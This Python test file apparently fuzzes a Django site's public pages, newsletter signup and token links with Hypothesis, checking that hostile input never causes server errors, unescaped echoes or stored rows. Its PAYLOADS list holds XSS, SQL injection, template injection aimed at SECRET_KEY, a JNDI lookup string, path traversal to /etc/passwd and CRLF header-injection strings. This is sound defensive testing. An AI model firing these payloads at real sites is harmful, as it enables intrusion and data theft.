"""Hostile input on every public URL and form, property-based (hypothesis).

Whatever arrives — long, binary, HTML, SQL-looking, odd Unicode, wrong methods, oversized
bodies — the answer is never a 500, never an unescaped echo, and a refused request stores
nothing.
"""

import html
import secrets
from urllib.parse import quote

import pytest
from django.apps import apps
from django.conf import settings as django_settings
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.public_pages import PublicPage

FUZZ = settings(
    max_examples=40,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "1; DROP TABLE newsletter_subscriber; --",
    "%' UNION SELECT password FROM auth_user --",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${jndi:ldap://example.invalid/a}",
    "../../../../etc/passwd",
    "\x00",
    "\u202egnp.exe",
    "\ufeff\u200b\u200d",
    "Z̵̡̢a̷l̸g̶o̵",
    "𝕄𝕒𝕝å 🏳️‍⚧️",
    "ＭＡＬÅ",
    "Malå\r\nSet-Cookie: x=1",
    "a" * 5000,
]

hostile_text = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(max_size=200),
    st.text(min_size=1000, max_size=4000),
    st.binary(max_size=200).map(lambda b: b.decode("latin-1")),
    st.lists(st.sampled_from(PAYLOADS), min_size=2, max_size=4).map("".join),
)
param_names = st.one_of(
    st.sampled_from(["kommun", "q", "email", "page", "next", "token", "sida"]),
    st.text(min_size=1, max_size=30),
)


def _marked(value: str) -> tuple[str, str]:
    """Prefix the value with a unique marker so an echo of it can be found in a page."""
    marker = "fz" + secrets.token_hex(4)
    return marker, marker + value


def _echo_problem(body: str, sent: str) -> str | None:
    # Only what would change meaning in HTML matters; plain text may be shown as it is.
    if html.escape(sent, quote=True) != sent and sent in body:
        return f"unescaped echo of {sent[:80]!r}"
    return None


def _row_counts() -> dict[str, int]:
    from newsletter.models import OutboxMessage

    counts = {
        model._meta.label: model._default_manager.count()
        for model in apps.get_models()
        if model._meta.managed and not model._meta.proxy
    }
    # A POST to a confirmation link confirms it whatever the body (its form is one button),
    # and confirming queues the welcome mail: the page's own effect, not the input's.
    welcome = OutboxMessage.objects.filter(kind=OutboxMessage.Kind.WELCOME).count()
    counts[OutboxMessage._meta.label] -= welcome
    return counts


def _other_public_urls() -> list[str]:
    """Public URLs that are not HTML pages: JSON, vCard, text, the health check."""
    from contacts.models import Contact

    urls = [
        reverse("helpline:status_json"),
        reverse("contacts:coordinators_json"),
        reverse("pages:robots"),
        reverse("pages:security_txt"),
        reverse("pages:healthz"),
    ]
    contact = Contact.objects.published().exclude(slug="").first()
    if contact:
        urls.append(reverse("contacts:vcard", kwargs={"slug": contact.slug}))
    return urls


@pytest.fixture
def paths(pages_for_client: list[PublicPage]) -> list[str]:
    pages = {entry.path.split("?")[0] for entry in pages_for_client}
    return sorted(pages | set(_other_public_urls()))


@FUZZ
@given(data=st.data())
def test_hostile_query_strings_never_break_a_page(paths, data):
    client = Client()
    path = data.draw(st.sampled_from(paths))
    params = data.draw(st.dictionaries(param_names, hostile_text, min_size=1, max_size=3))
    sent = {}
    for name, value in params.items():
        _marker, sent[name] = _marked(value)
    response = client.get(path, sent)
    assert response.status_code < 500, (path, sent)
    body = response.content.decode("utf-8", "replace")
    for value in sent.values():
        assert _echo_problem(body, value) is None, (path, value)


@FUZZ
@given(segment=hostile_text.filter(lambda s: s.strip(" ./") != ""))
def test_hostile_path_segments_never_break_a_page(db, segment):
    client = Client()
    quoted = quote(segment.replace("/", "_"), safe="")
    for path in (
        f"/nyhetsbrev/bekrafta/{quoted}/",
        f"/nyhetsbrev/avsluta/{quoted}/",
        f"/nyhetsbrev/arkiv/{quoted}/",
        f"/dokument/{quoted}/",
        f"/kontakt/{quoted}/",
        f"/{quoted}/",
    ):
        response = client.get(path)
        assert response.status_code < 500, path
        assert _echo_problem(response.content.decode("utf-8", "replace"), segment) is None, path


@FUZZ
@given(email=hostile_text, website=st.one_of(st.just(""), hostile_text))
def test_hostile_signups_are_refused_without_storing_anything(db, email, website):
    from email_validator import EmailNotValidError, validate_email

    client = Client()
    try:
        validate_email(email, check_deliverability=False)
        return  # a valid address may rightly be stored
    except EmailNotValidError:
        pass
    marker, sent = _marked(email)
    before = _row_counts()
    response = client.post(reverse("newsletter:signup"), {"email": sent, "website": website})
    assert response.status_code < 500
    assert response.status_code != 302, f"accepted {sent!r}"
    assert _echo_problem(response.content.decode("utf-8", "replace"), sent) is None
    assert _row_counts() == before, f"a refused signup stored something: {sent!r}"


@FUZZ
@given(token=hostile_text, fields=st.dictionaries(param_names, hostile_text, max_size=3))
def test_hostile_posts_to_token_pages_change_nothing(db, token, fields):
    client = Client()
    quoted = quote(token.replace("/", "_") or "x", safe="")
    before = _row_counts()
    for path in (
        f"/nyhetsbrev/bekrafta/{quoted}/",
        f"/nyhetsbrev/avsluta/{quoted}/",
        f"/nyhetsbrev/avsluta/{quoted}/angra/",
        f"/nyhetsbrev/avsluta/{quoted}/ett-klick/",
    ):
        response = client.post(path, fields)
        assert response.status_code < 500, path
        assert _echo_problem(response.content.decode("utf-8", "replace"), token) is None
    assert _row_counts() == before


@FUZZ
@given(
    method=st.sampled_from(["PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "FOO"]),
    body=st.binary(max_size=500),
    content_type=st.sampled_from(
        [
            "application/json",
            "text/xml",
            "multipart/form-data; boundary=x",
            "application/x-www-form-urlencoded",
            "",
        ]
    ),
    data=st.data(),
)
def test_wrong_methods_and_odd_bodies_never_break_a_page(paths, method, body, content_type, data):
    client = Client()
    path = data.draw(st.sampled_from(paths))
    before = _row_counts()
    response = client.generic(method, path, body, content_type=content_type)
    assert response.status_code < 500, (method, path)
    assert response.status_code in {400, 403, 404, 405}, (method, path, response.status_code)
    post = client.generic("POST", path, body, content_type=content_type)
    assert post.status_code < 500, ("POST", path, content_type)
    assert _row_counts() == before


def test_oversized_bodies_and_too_many_fields_get_400_not_500(paths):
    client = Client()
    huge = b"email=" + b"a" * (django_settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)
    many = "&".join(f"f{i}=1" for i in range(django_settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1))
    before = _row_counts()
    failures = []
    for path in [*paths, reverse("newsletter:signup")]:
        for body in (huge, many.encode()):
            response = client.generic(
                "POST", path, body, content_type="application/x-www-form-urlencoded"
            )
            if response.status_code >= 500:
                failures.append(f"{path}: {response.status_code} for a {len(body)} byte body")
    assert not failures, failures
    assert _row_counts() == before
